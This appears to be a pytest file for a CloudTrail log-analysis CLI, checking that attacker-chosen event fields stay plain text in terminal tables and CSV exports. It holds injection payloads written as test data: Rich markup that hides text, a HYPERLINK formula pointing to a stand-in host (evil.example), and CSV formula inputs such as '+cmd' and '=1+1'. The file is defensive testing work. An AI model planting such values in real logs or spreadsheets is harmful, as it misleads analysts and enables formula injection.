"""What a member-account admin writes into an event must reach the analyst as text.

Account IDs, regions, ARNs and user agents in a record (a planted log file, a forged Event History entry)
are chosen by whoever made the call. In a terminal table they must not be read as rich markup (which can
hide or restyle text: ``[black on black]``), and in CSV they must not become spreadsheet formulas.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path
from typing import Any

import pytest
from trailguard_engine.catalog import load_catalog
from typer.testing import CliRunner

from trailguard.cli import _load_commands, app
from trailguard.output import spreadsheet_safe

_load_commands()
runner = CliRunner()
HIDE = "[black on black]secret[/black on black]"
FORMULA = '=HYPERLINK("https://evil.example/?x","click")'


def _record(**fields: Any) -> dict[str, Any]:
    rule = next(r for r in load_catalog() if r.id == "cloudtrail-stop-logging")
    return {**dict(rule.examples_positive[0]["detail"]), **fields}


def test_markup_in_event_fields_is_printed_as_text_in_the_replay_table(tmp_path: Path) -> None:
    rec = _record(recipientAccountId=f"111122223333{HIDE}", userAgent=HIDE)
    rec["userIdentity"] = {**rec["userIdentity"], "arn": f"arn:aws:iam::111122223333:user/{HIDE}"}
    p = tmp_path / "e.jsonl"
    p.write_text(json.dumps(rec) + "\n")
    res = runner.invoke(app, ["replay", str(p), "--only-findings"], env={"COLUMNS": "300"})
    assert res.exit_code == 0, res.output
    assert f"111122223333{HIDE}" in res.stdout  # the account cell, verbatim
    assert f"user/{HIDE}" in res.stdout  # the principal cell


def test_markup_in_log_values_is_printed_as_text_in_hunt(tmp_path: Path) -> None:
    day = tmp_path / "AWSLogs" / "111122223333" / "CloudTrail" / "us-east-1" / "2026" / "10" / "01"
    day.mkdir(parents=True)
    rec = _record(userAgent=HIDE)
    (day / "f.json.gz").write_bytes(gzip.compress(json.dumps({"Records": [rec]}).encode(), mtime=0))
    res = runner.invoke(app, ["hunt", "--sql", "SELECT useragent FROM cloudtrail", "--logs", str(tmp_path), "--wide"],
                        env={"COLUMNS": "200"})  # fmt: skip
    assert res.exit_code == 0, res.output
    assert HIDE in res.stdout


def test_a_formula_in_an_event_field_stays_text_in_replay_and_hunt_csv(tmp_path: Path) -> None:
    rec = _record(userAgent=FORMULA)
    rec["userIdentity"] = {**rec["userIdentity"], "arn": FORMULA}
    p = tmp_path / "e.jsonl"
    p.write_text(json.dumps(rec) + "\n")
    res = runner.invoke(app, ["replay", str(p), "-o", "csv"])
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert rows and all(r["principal"] == "'" + FORMULA for r in rows)
    day = tmp_path / "AWSLogs" / "111122223333" / "CloudTrail" / "us-east-1" / "2026" / "10" / "01"
    day.mkdir(parents=True)
    (day / "f.json.gz").write_bytes(gzip.compress(json.dumps({"Records": [rec]}).encode(), mtime=0))
    hunt = runner.invoke(app, ["hunt", "--sql", "SELECT useragent FROM cloudtrail", "--logs", str(tmp_path / "AWSLogs"),
                               "-o", "csv"])  # fmt: skip
    assert list(csv.reader(io.StringIO(hunt.stdout)))[1] == ["'" + FORMULA]


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"), ("\t=x", "'\t=x"),
     ("-1", "-1"), ("-", "-"), ("-3.5", "-3.5"), ("arn:aws:iam::1:user/a", "arn:aws:iam::1:user/a"), (7, 7)],
)  # fmt: skip
def test_spreadsheet_safe(value: Any, safe: Any) -> None:
    assert spreadsheet_safe(value) == safe
